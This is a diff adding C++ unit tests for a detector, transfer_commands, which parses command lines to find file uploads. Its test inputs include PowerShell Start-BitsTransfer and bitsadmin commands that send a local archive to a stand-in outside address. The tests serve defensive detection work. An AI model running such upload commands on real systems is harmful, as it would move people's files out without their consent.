@@ -104,6 +104,40 @@ TEST(TransferCommand, OfPowerShellOnlyWhatTheCommandItselfSends) {
               IsEmpty());
 }
 
+TEST(TransferCommand, OfBitsInPowerShellWithoutNames) {
+  for (const char* line :
+       {"Start-BitsTransfer C:\\p\\1.rar http://203.0.113.9/u -TransferType Upload",
+        "Start-BitsTransfer -TransferT UploadReply -Source C:\\p\\1.rar -Destination "
+        "http://203.0.113.9/u",
+        "Import-Module BitsTransfer\nStart-BitsTransfer 'C:\\p\\1.rar' 'http://203.0.113.9/u' "
+        "-TransferType Upload -Asynchronous"}) {
+    const auto found = transfer_commands(line);
+    ASSERT_EQ(found.size(), 1U) << line;
+    EXPECT_THAT(found[0].files, ElementsAre("C:\\p\\1.rar")) << line;
+    EXPECT_EQ(found[0].destination, "http://203.0.113.9/u") << line;
+  }
+  for (const char* line : {"Start-BitsTransfer http://203.0.113.9/u C:\\p\\1.rar",
+                           "Start-BitsTransfer -Source http://h/u -Destination C:\\upload\\1.rar"})
+    EXPECT_THAT(transfer_commands(line), IsEmpty()) << line;
+}
+
+TEST(TransferCommand, StepsOfJobsOfBits) {
+  const auto step_of = [](std::string_view line) {
+    const auto found = transfer_commands(line);
+    if (found.size() != 1) return std::string{"none"};
+    constexpr std::string_view kSteps[] = {"whole", "sends", "fetches", "file"};
+    return std::string{kSteps[static_cast<std::size_t>(found[0].step)]} + " " + found[0].job;
+  };
+  EXPECT_EQ(step_of("bitsadmin /create /upload j1"), "sends j1");
+  EXPECT_EQ(step_of("bitsadmin.exe /rawreturn /create /UPLOAD-REPLY \"my job\""), "sends my job");
+  EXPECT_EQ(step_of("bitsadmin /create j1"), "fetches j1");
+  EXPECT_EQ(step_of("bitsadmin /create /download j1"), "fetches j1");
+  EXPECT_EQ(step_of("bitsadmin /addfile j1 http://203.0.113.9/u C:\\p\\1.rar"), "file j1");
+  EXPECT_EQ(step_of("bitsadmin /transfer j1 /upload http://203.0.113.9/u C:\\p\\1.rar"), "whole ");
+  EXPECT_EQ(step_of("bitsadmin /resume j1"), "none");
+  EXPECT_EQ(step_of("bitsadmin /addfile j1 http://203.0.113.9/u"), "none");
+}
+
 TEST(TransferCommand, FilesOfOneCommandAreLimitedAndCounted) {
   std::string line = "curl https://h.example";
   for (std::size_t i = 0; i < kMaxTransferFiles + 3; ++i)
